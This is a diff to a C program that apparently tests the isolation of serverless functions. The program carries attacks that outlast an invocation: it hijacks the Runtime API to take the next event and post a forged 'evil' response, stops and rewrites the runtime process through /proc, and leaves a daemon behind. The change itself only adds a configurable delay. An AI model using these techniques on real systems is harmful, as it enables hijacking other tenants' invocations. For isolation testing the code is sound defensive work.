@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /*
- * Attacks on a function's environment that outlive the invocation: persist NAME [twin].  Prints DONE where the forbidden thing happened.  What an
- * attacker does here takes its time: it waits for the next invocation.
+ * Attacks on a function's environment that outlive the invocation: persist NAME [twin | SECONDS].  Prints DONE where the forbidden thing
+ * happened.  What an attacker does here takes its time, as it would to wait for the next invocation.
  */
 #include <errno.h>
 #include <fcntl.h>
@@ -18,7 +18,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
-#define WAIT_US 500000
+static unsigned wait_us = 500000;
 
 /* The process that speaks to the Runtime API: the parent, or behind a shell, its parent. */
 static int runtime(void)
@@ -57,7 +57,7 @@ static bool next_event(void)
 {
 	char answer[4096];
 
-	usleep(WAIT_US);
+	usleep(wait_us);
 	return ask("GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n", answer, sizeof answer) && strstr(answer, "200 OK");
 }
 
@@ -66,7 +66,7 @@ static bool post_response(void)
 {
 	char answer[4096];
 
-	usleep(WAIT_US);
+	usleep(wait_us);
 	return ask("POST /2018-06-01/runtime/invocation/id-1/response HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n\r\n\"evil\"", answer, sizeof answer) &&
 	       strstr(answer, "202");
 }
@@ -77,7 +77,7 @@ static bool runtime_swap(void)
 	char path[64], line[512], *bytes = malloc(1 << 20);
 	bool found = false;
 
-	usleep(WAIT_US);
+	usleep(wait_us);
 	if (kill(runtime(), SIGSTOP) < 0)
 		return false;
 	snprintf(path, sizeof path, "/proc/%d/maps", runtime());
@@ -107,7 +107,7 @@ static bool rewrite_memory(void)
 	ssize_t n;
 	int fd;
 
-	usleep(WAIT_US);
+	usleep(wait_us);
 	snprintf(path, sizeof path, "/proc/%d/stat", runtime());
 	fd = open(path, O_RDONLY);
 	n = read(fd, text, 4096);
@@ -133,7 +133,7 @@ static bool daemonize(void)
 		setsid();
 		signal(SIGTERM, SIG_IGN);
 		if (fork() == 0) {
-			usleep(WAIT_US);
+			usleep(wait_us);
 			(void)!write(pipes[1], "x", 1);
 		}
 		_exit(0);
@@ -150,10 +150,12 @@ static const struct { const char *name; bool (*attack)(void); } attacks[] = {
 int main(int argc, char **argv)
 {
 	if (argc > 2 && strcmp(argv[2], "twin") == 0) {
-		usleep(WAIT_US);
+		usleep(wait_us);
 		puts("worked");
 		return 0;
 	}
+	if (argc > 2)
+		wait_us = (unsigned)atoi(argv[2]) * 1000000u;
 	for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
 		if (strcmp(argv[1], attacks[i].name) == 0)
 			puts(attacks[i].attack() ? "DONE" : "failed");
